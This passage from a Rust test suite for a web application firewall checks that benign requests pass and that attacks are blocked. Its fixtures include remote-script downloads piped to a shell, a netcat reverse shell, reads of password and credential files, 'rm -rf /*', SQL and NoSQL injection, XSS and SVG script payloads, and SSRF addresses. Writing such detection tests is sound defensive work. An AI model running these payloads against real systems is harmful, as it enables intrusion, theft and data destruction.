        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }
    let o = outcome(&waf, "/v1/go?u=http%3A%2F%2Flegacy.example.org%2Fapp.php%3Fpage%3D2%26sort%3Dname");
    assert!(!o.blocked, "{o:?}");

    // The attacks next to them.
    let rule = |body: &str, id: u32| {
        let o = json_post(&waf, body);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == id), "{body}: {o:?}");
    };
    // A fenced block that reaches the system, or a fence with no text around it.
    for body in [
        r#"{"c": "Please run this:\n```\n; cat /etc/passwd\n```\nthanks a lot"}"#,
        r#"{"c": "Steps here:\n```\nx; curl http://203.0.113.9/a | bash\n```\nthen reboot"}"#,
        r#"{"c": "Run it:\n```\n`curl http://203.0.113.9/a`\n```\nthen reboot"}"#,
        r#"{"c": "```\n; id\n```"}"#,
        r#"{"c": "x `sh -i`"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(blocked_category(&o, Category::Rce), "{body}: {o:?}");
    }
    for q in ["*{{7*7}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}", "*{{request}}"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3600);
    }
    for t in [
        "/x?page=http://evil.example/shell.txt?",
        "/x?page=http://evil.example/shell.txt?x",
        "/x?p=ftp://evil.example/c.php?",
    ] {
        let o = outcome(&waf, t);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3101), "{t}: {o:?}");
    }
    for q in ["system (id)", "system ('id')", "passthru ( $_GET[c] )", "mail(x)", "exec (base64_decode($x))"] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 3301);
    }
    for t in ["/x?file=../.env", "/x?file=/var/www/.env.local", "/x?f=.env.production", "/x?f=app/.env"] {
        let o = outcome(&waf, t);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3001), "{t}: {o:?}");
    }
    for q in [
        r#"<meta charset=\"UTF-8\">"#,
        r#"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"#,
        r#"<html><head><meta charset=\"utf-7\"></head></html>"#,
        r#"\"><img src=x onerror=alert(1)>"#,
        r#"\"><svg onload=confirm(1)>"#,
        r#"<code><iframe src=\"https://evil.example\"></code>"#,
        r#"<code><script>alert(1)</script></code>"#,
    ] {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(blocked_category(&o, Category::Xss), "{q}: {o:?}");
    }
    rule(r#"{"q": "<b>x</b>\";alert(1)//"}"#, 4108);
    // A comment after a quote that is no inch mark, or a dash that ends the value.
    for q in [
        r#"admin\" -- this is a sentence with many words in it ok"#,
        "1' -- this text looks like prose words here for sure",
        r#"the size is 13\" --"#,
        "x' --",
    ] {
        rule(&format!(r#"{{"q": "{q}"}}"#), 4208);
    }
}

#[test]
fn a_command_word_at_paranoia_level_2_ends_where_a_shell_word_ends() {
    let waf = waf_with(r#"{"paranoia_level":2}"#);
    // A client's product token, a query string's parameter (an assignment to a shell).
    for ua in ["python-requests/2.32.3", "node-fetch/3.3.2", "curl/8.5.0", "Python-urllib/3.12"] {
        let o = waf.outcome(&waf.inspect_head(&with_user_agent("/v1/items", ua)));
        assert!(!o.matches.iter().any(|m| m.rule_id == 3212), "{ua}: {o:?}");
    }
    let o =
        post("/login", "application/x-www-form-urlencoded", "next=%2Fprojects%3Fview%3Dlist%26sort%3D-updated", &waf);
    assert!(!o.matches.iter().any(|m| m.rule_id == 3212), "{o:?}");
    // Commands, hyphenated command names, versioned interpreters, paths glued to the command. (A
    // bare `ls` at the start is a word, initials `LS`: a_command_word_at_the_start_counts_….)
    for q in [
        "ansible-config dump",
        "python3.10 x",
        "x;cat/etc/passwd",
        "x|cmd.exe /c dir",
        "a;id",
        "ls -la",
        "x&&wget -q x",
    ] {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3212), "{q}: {o:?}");
    }
}

#[test]
fn holdout11_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    for body in [
        // A language server's document addresses (and the code they hold).
        r#"{"jsonrpc": "2.0", "method": "textDocument/didOpen", "params": {"textDocument": {"uri": "file:///workspace/api/routes.py", "text": "row = db.execute(text(\"SELECT * FROM orders WHERE id = :id\"))\nreturn row"}}}"#,
        r#"{"uri": "file:///home/ana/src/main.rs"}"#,
        r#"{"uri": "file:///c:/Users/ana/notes.md"}"#,
        // Go's runtime package in a profile.
        r#"{"top": [{"frame": "runtime.mallocgc", "self": 812}]}"#,
        // A cast in a whole query.
        r#"{"sql": "SELECT o.id FROM orders o WHERE o.id::text = $1 ORDER BY o.created_at DESC"}"#,
        // An assistant's answer that is one fenced script.
        r#"{"content": "```bash\ncd /srv/app/logs || exit 1\nls -1t *.log | tail -n +6 | while read -r f; do\n  find \"$f\" -mtime +14 -delete\ndone\n```"}"#,
        // An SQL script quoted in a question, each statement on its own line.
        r#"{"content": "I get a foreign key error. Tables:\n\nCREATE TABLE orders (id INT PRIMARY KEY);\nCREATE TABLE items (id INT, order_id INT REFERENCES orders(id));\n\nINSERT INTO items (order_id) VALUES (42);"}"#,
        // Quoted identifiers qualified by a table, in an error message.
        r#"{"value": "PG::QueryCanceled: ERROR: canceling statement\n: SELECT \"reports\".* FROM \"reports\" WHERE \"reports\".\"account_id\" = $1 AND (created_at BETWEEN '2024-01-01' AND '2024-11-29') ORDER BY \"reports\".\"id\" ASC"}"#,
        // A quiz's answers and a notebook's lines: programs of one family in several values.
        r#"{"choices": ["SELECT customer_id, COUNT(*) FROM orders GROUP BY customer_id", "SELECT COUNT(customer_id) FROM orders", "SELECT DISTINCT COUNT(*) FROM orders"]}"#,
        r#"{"choices": ["ls -la", "ls -h", "dir /s", "cat -a"]}"#,
        r#"{"source": ["df = pd.read_sql(\"\"\"\n", "    SELECT plan, count(*) AS n FROM subscriptions\n", "    GROUP BY 1, 2\n", "\"\"\", engine)"]}"#,
        r#"{"cells": [{"source": ["!pip install -q duckdb==1.1.3 polars"]}, {"source": ["%%bash\n", "ls -lh data/ | head -n 5\n", "wc -l data/events.csv"]}]}"#,
        // An editor snippet's tab stops.
        r#"{"body": ["func Test${1:Name}(t *testing.T) {", "\tif got := ${1}(tc.in); got != tc.want {"]}"#,
        // A browser's JavaScript stack trace.
        r#"{"stack": "TypeError: Failed to fetch\n    at window.fetch (https://shop.example/app.js:2:18211)\n    at async HTMLButtonElement.<anonymous> (https://shop.example/app.js:14:1433)"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked, "{body}: {o:?}");
    }

    // The attacks next to them.
    let blocked = |body: &str, c: Category| {
        let o = json_post(&waf, body);
        assert!(blocked_category(&o, c), "{body}: {o:?}");
    };
    for q in [
        "file:///etc/passwd",
        "file:///proc/self/environ",
        "file:///workspace/../etc/hosts",
        "file://attacker.example/share/x",
        "file:///c:/windows/win.ini",
        "file:///workspace/a.py gopher://127.0.0.1:6379/_flushall",
    ] {
        let o = json_post(&waf, &format!(r#"{{"uri": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3502 || m.rule_id == 3001), "{q}: {o:?}");
    }
    for q in ["runtime.getRuntime().exec('id')", "Runtime.halt(0)", "runtime.clonetransformer", "Runtime. exec(x)"] {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4404), "{q}: {o:?}");
    }
    for q in ["1::int", "x'::text or 1=1--", "select password::text from users union select 1"] {
        blocked(&format!(r#"{{"q": "{q}"}}"#), Category::Sqli);
    }
    for c in [
        r#"```\ncurl http://203.0.113.9/x | sh\n```"#,
        r#"```bash\nnc -e /bin/sh 203.0.113.9 4444\n```"#,
        r#"```\nping -c 1 127.0.0.1; cat /etc/shadow\n```"#,
        r#"```\n; id\n```"#,
    ] {
        blocked(&format!(r#"{{"content": "{c}"}}"#), Category::Rce);
    }
    for t in [
        r#"1;\ndrop table users"#,
        r#"note\n1;\ndrop table users"#,
        r#"x';\ndrop table users;--"#,
        r#"\"t\".\"c\";drop table users"#,
        r#"\"users\".\"name\"' or '1'='1"#,
    ] {
        blocked(&format!(r#"{{"text": "{t}"}}"#), Category::Sqli);
    }
    // Programs of two families still add up; a program that reaches the system is critical.
    let o = outcome(&waf, "/x?a=ls%20-la&b=select%20*%20from%20users");
    assert!(o.blocked, "{o:?}");
    for q in ["!!", "!1", "!curl http://203.0.113.9/x | sh", "!cat /etc/passwd"] {
        blocked(&format!(r#"{{"q": "{q}"}}"#), Category::Rce);
    }
    for q in ["order by 1--", " ORDER BY 3#", "1 order by 5--"] {
        blocked(&format!(r#"{{"q": "{q}"}}"#), Category::Sqli);
    }
    for q in ["c${1}url http://203.0.113.9/a.sh", "x;c${2}url -o /tmp/a http://203.0.113.9/a", "${system('id')}"] {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3305), "{q}: {o:?}");
    }
    for s in [
        r#"Error: x\n    at a (https://a.example/b.js:1:1)\nwindow.location='//evil.example'"#,
        r#"<img src=x onerror=alert(1)>\n    at x (https://a.example/a.js:1:1)"#,
        "window.location",
    ] {
        blocked(&format!(r#"{{"stack": "{s}"}}"#), Category::Xss);
    }
}

#[test]
fn holdout12_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let pl2 = waf_with(r#"{"paranoia_level":2}"#);
    let pl2_no_rfi = waf_with(r#"{"paranoia_level":2,"disabled_rules":[3150]}"#);
    // A wiki edit summary naming its section in a comment that opens the value.
    let form = "action=edit&title=Lower+Wetherby&summary=%2F*+History+*%2F+add+railway+dates%2C+cite+census";
    for w in [&waf, &pl2] {
        let o = post("/w/api.php", "application/x-www-form-urlencoded", form, w);
        assert!(!o.blocked && !o.matches.iter().any(|m| m.rule_id == 3205), "{o:?}");
    }
    // Bare numbers are no addresses: a routing number, a phone number, a timestamp, `period=0`, a
    // decimal.
    for body in [
        r#"{"routing_number": "021000021"}"#,
        r#"{"phones": [{"countryCallingCode": "33", "number": "612345678"}]}"#,
        r#"{"previous_passport": {"number": "123456789"}}"#,
        r#"{"lat": "51.5073519", "offset": "0"}"#,
    ] {
        let o = json_post(&pl2, body);
        assert!(!o.matches.iter().any(|m| m.rule_id == 3503), "{body}: {o:?}");
    }
    let o = pl2.outcome(
        &pl2.inspect_head(&get("/nba/v2/boxscore/0022600312?period=0", &[("x-slack-request-timestamp", "1796029963")])),
    );
    assert!(!o.blocked, "{o:?}");

    // The attacks next to them: a glob of the root after a word or before a separator, an SQL
    // comment inside an expression, globbed system paths.
    for q in
        ["rm -rf /*", "x;rm -rf /* now", "/*;id", "9999 or /* hint */ true", "cat /e?c/p?sswd", "/???/??t /???/p??s??"]
    {
        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3205), "{q}: {o:?}");
    }
    // Numeric addresses in a URL, and integers at a 32- or 64-bit bound.
    for q in [
        "http://2130706433/",
        "http:2852039166",
        "//0/admin",
        "http://0:8080/",
        "user@2130706433",
        "2130706433:80/",
        "http://2.16777217/x",
    ] {
        // Remote inclusion (3150) would block these first and end the inspection.
        let o = json_post(&pl2_no_rfi, &format!(r#"{{"url": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3503), "{q}: {o:?}");
    }
    for q in ["4294967296", "-2147483648", "2147483647", "18446744073709551615", " 9223372036854775808"] {
        let o = json_post(&pl2, &format!(r#"{{"n": "{q}"}}"#));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4233), "{q}: {o:?}");
    }
}

/// Each class set, searched with its own cache (`ClassSet::matches`), answers as the
/// `regex::bytes::RegexSet` it replaced, built as before from the same patterns: whether any
/// member matches and which, on fixture lines (a sample), windows of them and generated values of
/// attack fragments, punctuation and random bytes, at PL1 and PL4.
#[test]
fn class_sets_agree_with_the_regex_set_they_replaced() {
    const PIECES: [&str; 24] = [
        "select ",
        "union all ",
        " or 1=1",
        "' or '",
        "--",
        "/*",
        "<script>",
        "onerror=",
        "javascript:",
        "../",
        "/etc/passwd",
        "cmd.exe",
        ";cat ",
        "|id",
        "$(",
        "${",
        "<?php",
        "eval(",
        "%00",
        "http://",
        "sleep(5)",
        "'",
        " ",
        "a",
    ];
    let mut lines: Vec<Vec<u8>> = Vec::new();
    for entry in std::fs::read_dir("tests/fixtures").into_iter().flatten().flatten() {
        let text = std::fs::read(entry.path()).unwrap_or_default();
        lines.extend(text.split(|&b| b == b'\n').map(<[u8]>::to_vec));
    }
    assert!(lines.len() > 100, "fixtures not found");
    let mut values: Vec<Vec<u8>> = Vec::new();
    for l in lines.iter().step_by(lines.len() / 10 + 1) {
        values.push(l.clone());
        values.extend(l.chunks(96).step_by(4).map(<[u8]>::to_vec));
    }
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..50 {
        let mut v = Vec::new();
        for _ in 0..(x % 6 + 1) {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            v.extend_from_slice(PIECES[(x % PIECES.len() as u64) as usize].as_bytes());
        }
        values.push(v);
    }
    values.extend(normalize::random_values(0x1234_5678_9abc_def1, 30, 40, |_, r| {
        b"abcxyzSELECTunion0189 '\"<>/\\;()=-*#&|$.%:{}[]\n\t\x00\xff\xc3"[r % 46]
    }));
    let mut hits = 0;
    for level in [1, 4] {
        let w = waf_with(&format!(r#"{{"paranoia_level":{level}}}"#));
        assert!(w.sets.len() > 5);
        for cs in &w.sets {
            let patterns: Vec<&str> = cs
                .rules
                .iter()
                .filter_map(|&ri| match w.rules.get(ri).map(|r| &r.check) {
                    Some(Check::Set(re)) => Some(re.as_str()),
                    _ => None,
                })
                .collect();
            assert_eq!(patterns.len(), cs.rules.len());
            let old = regex::bytes::RegexSetBuilder::new(&patterns)
                .unicode(false)
                .size_limit(64 << 20)
                .dfa_size_limit(16 << 20)
                .build();
            assert!(old.is_ok(), "PL{level}: the set does not build as a RegexSet");
            let Ok(old) = old else { continue };
            for v in &values {
                let expected: Vec<usize> = if old.is_match(v) { old.matches(v).iter().collect() } else { Vec::new() };
                let got: Vec<usize> =
                    cs.matches(v, &w.budget).map(|w| w.iter().map(|p| p.as_usize()).collect()).unwrap_or_default();
                assert_eq!(got, expected, "PL{level}: {:?}", String::from_utf8_lossy(v));
                hits += usize::from(!expected.is_empty());
            }
            // The fallbacks: the PikeVM (when the lazy DFA gives up) and a cache of the call's own
            // (when another thread holds the set's).
            let held = cs.cache.lock();
            assert!(held.is_ok());
            for v in values.iter().step_by(9) {
                let expected: Vec<usize> = old.matches(v).iter().collect();
                let mut which = PatternSet::new(cs.pikevm.pattern_len());
                cs.pikevm.which_overlapping_matches(&mut cs.pikevm.create_cache(), &Input::new(v), &mut which);
                assert_eq!(which.iter().map(|p| p.as_usize()).collect::<Vec<_>>(), expected, "PikeVM, PL{level}");
                let got: Vec<usize> =
                    cs.matches(v, &w.budget).map(|w| w.iter().map(|p| p.as_usize()).collect()).unwrap_or_default();
                assert_eq!(got, expected, "own cache, PL{level}");
            }
            drop(held);
        }
    }
    assert!(hits > 50, "{hits} values matched: the values reach the rules");
}

/// Remembering clean body values changes no outcome: bodies that repeat values under other
/// names (values with shapes skipped in prose, rules that already fired, names with an
/// apostrophe, session-id and link-valued names, excluded targets) give the same matches,
/// targets, excerpts and scores with the memo as without it, at PL1 and PL2, with exclusions; and
/// an attack excluded where it first comes still scores where it comes again.
#[test]
fn remembered_values_give_the_outcome_of_inspecting_them_again() {
    let mut values: Vec<String> = [
        "Gift wrap please - it's a birthday present for my sister!",
        "please run select name from users where id = 1 before the meeting, as we said",
        "Ring twice; the bell doesn't always work. Thanks, Maja",
        "the nightly job runs cat /etc/passwd | grep admin > out.txt, see the ticket for details",
        "Maja O'Brien",
        "Rain jacket - men's",
        "Merino wool socks (3-pack)",
        "1' or '1'='1",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "; cat /etc/passwd",
        "union select password from users",
        "<b>bold</b> and <i>italic</i> text in a sentence that is long enough to be prose, fine",
        "abc123",
        "sid",
        "x",
        "admin'--",
        "sleep(5)",
        "${jndi:ldap://x}",
        "{{7*7}}",
        "a=1&b=2",
        "DROP TABLE users; -- cleanup after the migration as described in the runbook please",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // The values listed above, most of them attacks: every pool holds one of them, so that the
    // share of bodies that match something does not fall as benign fixtures are added.
    let listed = values.clone();
    for entry in std::fs::read_dir("tests/fixtures").into_iter().flatten().flatten() {
        let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
        for line in text.lines().step_by(7) {
            let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else { continue };
            if let Some(body) = v.get("body").and_then(|b| b.as_str()) {
                if let Ok(doc) = serde_json::from_str::<serde_json::Value>(body) {
                    collect_strings(&doc, &mut values);
                }
            }
        }
    }
    values.sort();
    values.dedup();
    assert!(values.len() > 100, "{} values", values.len());
    const KEYS: [&str; 9] = ["note", "name", "sid", "url", "q", "comment", "session_id", "text", "id"];
    let configs = [
        r#"{"paranoia_level":1}"#,
        r#"{"paranoia_level":2}"#,
        r#"{"paranoia_level":2,"exclusions":[{"target":"json:$[1]*"},{"target":"json:$.*.note","rules":[4200,3200]},{"target":"json:$[0].q","tags":["sqli"]}]}"#,
    ];
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = |n: usize| {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        (x % n as u64) as usize
    };
    let (mut bodies, mut differing_from_empty) = (0, 0);
    // Made to order: an attack excluded where it comes first, then again where it is not excluded.
    let w = waf_with(r#"{"paranoia_level":1,"exclusions":[{"target":"json:$[0]*"}]}"#);
    for v in ["1' or '1'='1", "<script>alert(1)</script>", "; cat /etc/passwd", "${jndi:ldap://x}"] {
        let body = serde_json::json!([{ "q": v }, { "q": v }]).to_string();
        let r = get("/api/orders", &[("content-type", "application/json")]);
        let mut remembered = w.inspect_head(&r);
        w.inspect_body(&mut remembered, b"application/json", body.as_bytes());
        let o = w.outcome(&remembered);
        assert!(!o.matches.is_empty() && o.matches.iter().all(|m| m.target.starts_with("json:$[1]")), "{body}: {o:?}");
    }
    for config in configs {
        let w = waf_with(config);
        for _ in 0..60 {
            // A pool of a few values, each used several times under different names.
            let pool: Vec<&String> = (0..4)
                .map(|i| if i == 0 { &listed[next(listed.len())] } else { &values[next(values.len())] })
                .collect();
            let mut doc = Vec::new();
            for _ in 0..(2 + next(5)) {
                let mut obj = serde_json::Map::new();
                for _ in 0..(1 + next(5)) {
                    let v = serde_json::Value::String(pool[next(pool.len())].clone());
                    let v = if next(4) == 0 { serde_json::json!({ "inner": v }) } else { v };
                    obj.insert(KEYS[next(KEYS.len())].to_string(), v);
                }
                doc.push(serde_json::Value::Object(obj));
            }
            // An array of objects, or an object holding them with more members after them (top-level
            // names after the same names nested).
            let body = match (next(2), doc.first().cloned()) {
                (0, Some(serde_json::Value::Object(mut top))) => {
                    let mut outer = serde_json::Map::new();
                    outer.insert("items".into(), serde_json::Value::Array(doc));
                    outer.append(&mut top);
                    serde_json::Value::Object(outer).to_string()
                }
                _ => serde_json::Value::Array(doc).to_string(),
            };
            let r = get("/api/orders", &[("content-type", "application/json")]);
            let mut remembered = w.inspect_head(&r);
            w.inspect_body(&mut remembered, b"application/json", body.as_bytes());
            let mut again = w.inspect_head(&r);
            let mut sink = Inspector { waf: &w, scan: &mut again, memo: false };
            targets::body(b"application/json", body.as_bytes(), w.max_depth, &mut sink);
            assert_eq!(w.outcome(&remembered), w.outcome(&again), "{config}: {body}");
            bodies += 1;
            differing_from_empty += usize::from(!w.outcome(&again).matches.is_empty());
        }
    }
    assert!(bodies == 180 && differing_from_empty > 30, "{differing_from_empty} of {bodies} bodies matched");
}

fn collect_strings(v: &serde_json::Value, out: &mut Vec<String>) {
    match v {
        serde_json::Value::String(s) if s.len() <= 200 => out.push(s.clone()),
        serde_json::Value::Array(a) => a.iter().for_each(|e| collect_strings(e, out)),
        serde_json::Value::Object(o) => o.iter().for_each(|(k, e)| {
            out.push(k.clone());
            collect_strings(e, out)
        }),
        _ => {}
    }
}

/// What `scan_canonical` relies on to skip the sets of the views equal to a value's canonical
/// form when the merged set does not match it: for every class, the merged set holds every rule
/// of the text, SQL, path and shell sets.
#[test]
fn the_merged_set_of_a_class_holds_every_textual_view_set() {
    for level in [1, 2, 3, 4] {
        let w = waf_with(&format!(r#"{{"paranoia_level":{level}}}"#));
        let mut checked = 0;
        for bit in 0..class::COUNT {
            let merged =
                w.merged_by_class[bit].and_then(|i| w.sets.get(i)).map(|s| s.rules.clone()).unwrap_or_default();
            for view in [View::Text, View::Sql, View::Path, View::Shell] {
                let Some(set) = w.by_class[bit][view.index()].and_then(|i| w.sets.get(i)) else { continue };
                assert!(set.rules.iter().all(|r| merged.contains(r)), "PL{level}, class bit {bit}, {view:?}");
                checked += 1;
            }
        }
        assert!(checked > 10, "PL{level}: {checked} sets");
    }
}

/// The eleventh round's shapes (holdouts 13 and 14), each with the attacks next to it.
#[test]
fn holdout14_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let head = |target: &str, headers: &[(&str, &str)]| waf.outcome(&waf.inspect_head(&get(target, headers)));

    // A vendor's own header names with `_` (an IoT cloud's signing headers) are names; the same
    // spelling of a header a proxy sets or checks is an evasion.
    let o = head(
        "/v1.0/devices/bf8a12/status",
        &[("client_id", "4x9k2m"), ("access_token", "3f4e5d6c7b8a"), ("sign_method", "HMAC-SHA256")],
    );
    assert!(!o.blocked, "{o:?}");
    for name in ["x_forwarded_for", "x_real_ip", "content_length", "x_envoy_original_path", "x_filename"] {
        let o = head("/", &[(name, "127.0.0.1")]);
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1015), "{name}: {o:?}");
    }

    // A negated `field:value` filter is no shell history event; events, designators and
    // modifiers still are.
    let o = head("/data/v1/metrics/views/breakdown?group_by=country&filters%5B%5D=%21browser%3ASafari", &[]);
    assert!(!o.blocked, "{o:?}");
    for q in ["%21%21", "%211", "%21-1%3Ap", "%21ca%3As%2Fl%2Ft%2F", "%3B%21ls%3A0", "%21cat%3Ags%2Fx%2Fy%2F"] {
        let o = outcome(&waf, &format!("/get?rce={q}"));
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3209), "{q}: {o:?}");
    }

    // A JSON filter document that selects listed values; operators that match what they do not
    // name, run code, or sit in an argument's name or a body's key still count.
    let o = head("/chat/search?payload=%7B%22members%22%3A%7B%22%24in%22%3A%5B%22usr_4418%22%5D%7D%7D&limit=20", &[]);
    assert!(!o.blocked, "{o:?}");
    for f in [
        r#"{"a":{"$in":["x"]},"b":{"$ne":1}}"#,
        r#"{"a":{"$in":[{"$gt":""}]}}"#,
        r#"{"$where":"sleep(100)"}"#,
        r#"{"a":{"$in":["x"]},"$or":[{}]}"#,
        r#"{"password":{"$regex":"^a"}}"#,
    ] {
        let o = json_post(&waf, &serde_json::json!({ "filter": f }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4211), "{f}: {o:?}");
    }
    for o in [
        outcome(&waf, "/login?user%5B%24in%5D%5B%5D=admin"),
        json_post(&waf, r#"{"user": "admin", "password": {"$in": ["a", "b"]}}"#),
    ] {
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4211), "{o:?}");
    }

    // A quiz's SQL answers: `HAVING` in a whole statement is its shape; after data or a quote it
    // is an injection.
    let quiz = r#"{"question": {"answers": [
        {"answer_text": "SELECT name FROM students WHERE enrolled_year > 2024;"},
        {"answer_text": "SELECT name FROM students HAVING enrolled_year > 2024;"}]}}"#;
    let o = json_post(&waf, quiz);
    assert!(!o.blocked, "{o:?}");
    for q in ["1 having 1=1", "x' having 1=1--", "HAVING 1=", "select 1 having 1=1;drop table x"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && blocked_category(&o, Category::Sqli), "{q}: {o:?}");
    }

    // A company named after the sample database; the database in a query is still a catalogue.
    let o = json_post(&waf, r#"{"recipients": {"signers": [{"roleName": "Northwind", "routingOrder": "2"}]}}"#);
    assert!(!o.blocked, "{o:?}");
    for q in ["northwind..sysobjects", "use northwind", "1 union select name from northwind.dbo.users"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4231), "{q}: {o:?}");
    }

    // `or` starts a word (`" orient="`) only when it is one; tautologies still match.
    let o = json_post(&waf, r#"{"marker": "<marker id=\"a\" orient=\"auto\" order=\"2\">"}"#);
    assert!(!o.matches.iter().any(|m| m.rule_id == 4201), "{o:?}");
    for q in ["x' or'1'='1", "a\" or \"a\"=\"a", "') or('a'='a", "x' and 1=1"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4201), "{q}: {o:?}");
    }

    // An SVG diagram uploaded to a media library; SVG that runs, loads or embeds still acts.
    let svg = concat!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" width="640" height="200" viewBox="0 0 640 200"><title>Outbox relay</title>"##,
        r##"<rect x="10" y="60" width="160" height="80" rx="8" fill="#e8f1f5" stroke="#1f4e5f"/>"##,
        r##"<text x="90" y="105" text-anchor="middle" font-family="Inter, sans-serif" font-size="14">payouts-svc</text>"##,
        r##"<path d="M170 100 H 240" stroke="#1f4e5f" marker-end="url(#arrow)"/><defs><marker id="arrow" markerWidth="10" "##,
        r##"markerHeight="10" refX="9" refY="3" orient="auto"><path d="M0,0 L9,3 L0,6 z" fill="#1f4e5f"/></marker></defs></svg>"##
    );
    let body = format!(
        "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"relay.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n--B--\r\n"
    );
    let o = post("/files", "multipart/form-data; boundary=B", &body, &waf);
    assert!(!o.blocked, "{o:?}");
    assert!(context::inert_svg(svg.to_ascii_lowercase().as_bytes()));
    let ns = r#"xmlns="http://www.w3.org/2000/svg""#;
    for s in [
        format!(r#"<svg {ns} onload="alert(1)"><rect width="1"/></svg>"#),
        format!(r#"<svg {ns}><script>alert(1)</script></svg>"#),
        format!(r#"<svg {ns}><a href="javascript:alert(1)"><rect width="9"/></a></svg>"#),
        format!(r#"<svg {ns}><foreignObject><iframe src="//203.0.113.9/"></iframe></foreignObject></svg>"#),
        format!(r#"<svg {ns}><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>"#),
        format!(r#"<svg {ns}><animate attributeName="href" to="javascript:alert(1)"/></svg>"#),
        format!(r#"<svg {ns}><set attributeName="onmouseover" to="alert(1)"/></svg>"#),
        format!(r#"<svg {ns}><image href="https://203.0.113.9/x.svg"/></svg>"#),
        format!(r#"<svg {ns}><rect fill="url(https://203.0.113.9/p#a)" width="9"/></svg>"#),
        format!(r#"<svg {ns}><rect width="9" transform="translate(alert(1))"/></svg>"#),
        format!(r#"<svg {ns}><rect width="1"/></svg><img src=x onerror=alert(1)><svg {ns}></svg>"#),
    ] {
        assert!(!context::inert_svg(s.to_ascii_lowercase().as_bytes()), "{s}");
        let o = json_post(&waf, &serde_json::json!({ "svg": s }).to_string());
        assert!(blocked_category(&o, Category::Xss), "{s}: {o:?}");
    }
    // Without the SVG namespace it is not a drawing document.
    assert!(!context::inert_svg(br#"<svg width="9"><rect width="9"/></svg>"#));

    // A session id in the query of a request with a bearer token or an API key: no victim's link
    // or cross-site form carries one. Credentials a browser adds by itself do not count.
    for auth in ["Bearer abc.def.ghi", "storefront:production.7d1e0f2a3b4c5d6e"] {
        let o =
            head("/api/frontend?appName=storefront&userId=cust_88123&sessionId=3f1e0a9c", &[("authorization", auth)]);
        assert!(!o.blocked, "{auth}: {o:?}");
    }
    for auth in ["Basic YTpi", "Digest username=\"a\"", "NTLM TlRMTVNTUAAB"] {
        let o = head("/login?jsessionid=74B0CB41", &[("authorization", auth)]);
        assert!(blocked_category(&o, Category::SessionFixation), "{auth}: {o:?}");
    }

    // A user agent that writes its runtime's version in parentheses; a command after `;` that
    // runs is still one.
    let ua = |agent: &str| {
        let r = Request::from_headers(vec![
            (":method".into(), b"GET".to_vec()),
            (":path".into(), b"/1/indexes/products/settings".to_vec()),
            (":authority".into(), b"api.example.com".to_vec()),
            ("accept".into(), b"application/json".to_vec()),
            ("user-agent".into(), agent.as_bytes().to_vec()),
        ]);
        waf.outcome(&waf.inspect_head(&r))
    };
    let o = ua("Searchhost for Python (4.8.1); Python (3.12.7)");
    assert!(!o.blocked, "{o:?}");
    for agent in [
        "Searchhost for Python (4.8.1); id",
        "x (1.0); cat /etc/passwd",
        "x (1); sleep 5",
        "x (1); python (3) && id",
        "x (1.0); wget http://203.0.113.9/a.sh",
    ] {
        let o = ua(agent);
        assert!(blocked_category(&o, Category::Rce), "{agent}: {o:?}");
    }
}

/// The fast lane (`Waf::certainly_clean`) only ever skips values on which the full inspection
/// records nothing: for values of every kind (fixture lines and pieces of them, attack pieces,
/// random bytes, short ordinary values), for each class a value can have, at paranoia levels 1,
/// 2 and 4, a value it lets through leaves a scan untouched when inspected in full. It must also
/// let through most ordinary short values (else it is no fast lane), and values with a base64
/// view that its rules do not match (the lane searches that view's set too).
#[test]
fn the_fast_lane_decides_as_the_full_inspection() {
    let mut values: Vec<Vec<u8>> = Vec::new();
    for entry in std::fs::read_dir("tests/fixtures").into_iter().flatten().flatten() {
        let text = std::fs::read(entry.path()).unwrap_or_default();
        for line in text.split(|&b| b == b'\n').step_by(8) {
            values.push(line.to_vec());
